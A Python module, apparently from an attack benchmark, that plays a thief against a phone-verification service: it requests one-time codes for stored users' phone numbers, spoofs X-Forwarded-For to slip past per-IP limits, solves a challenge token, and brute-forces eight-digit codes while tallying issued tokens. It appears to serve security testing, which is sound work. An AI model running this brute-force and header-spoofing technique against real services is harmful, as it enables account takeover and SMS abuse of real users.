"""The thief at the channel service: true phones, and one-time codes to guess."""

import random
import re
from collections import Counter
from dataclasses import dataclass, field

import httpx

from benches.attack.service import Target
from tests.factories.work import solve

#: True phones, requests for a code to each, and guesses for each code.
PHONES, ASKS, TRIES = 10, 5, 8


@dataclass
class CodeHaul:
    """What guessing codes came to."""

    asks: Counter[int] = field(default_factory=Counter)
    tries: Counter[int] = field(default_factory=Counter)
    tokens: int = 0


def guess_codes(target: Target) -> CodeHaul:
    """Ask for codes to true phones, and guess what was sent."""
    haul, draw = CodeHaul(), random.Random(2014)
    with httpx.Client(base_url=target.channel, timeout=30) as client:
        for person in target.people[1 : PHONES + 1]:
            phone = "+82" + re.sub(r"\D", "", person["phone"])[1:]
            for _ in range(ASKS):
                header = {"Breachdesk-Token": _token(client), "X-Forwarded-For": "203.0.113.5"}
                body = {"type": "phone", "address": phone, "language": "ko"}
                asked = client.post("/v1/channel/ask", json=body, headers=header)
                haul.asks[asked.status_code] += 1
                if asked.status_code == 202:
                    _try_codes(client, haul, draw, phone, asked.json()["ticket"])
    return haul


def _try_codes(
    client: httpx.Client, haul: CodeHaul, draw: random.Random, phone: str, ticket: str
) -> None:
    for _ in range(TRIES):
        code = f"{draw.randrange(10**8):08d}"
        body = {"type": "phone", "address": phone, "ticket": ticket, "code": code}
        found = client.post("/v1/channel/token", json=body)
        haul.tries[found.status_code] += 1
        haul.tokens += found.status_code == 200


def _token(client: httpx.Client) -> str:
    found = client.get("/v1/challenge/channel/1")
    found.raise_for_status()
    return solve(found.content).decode()
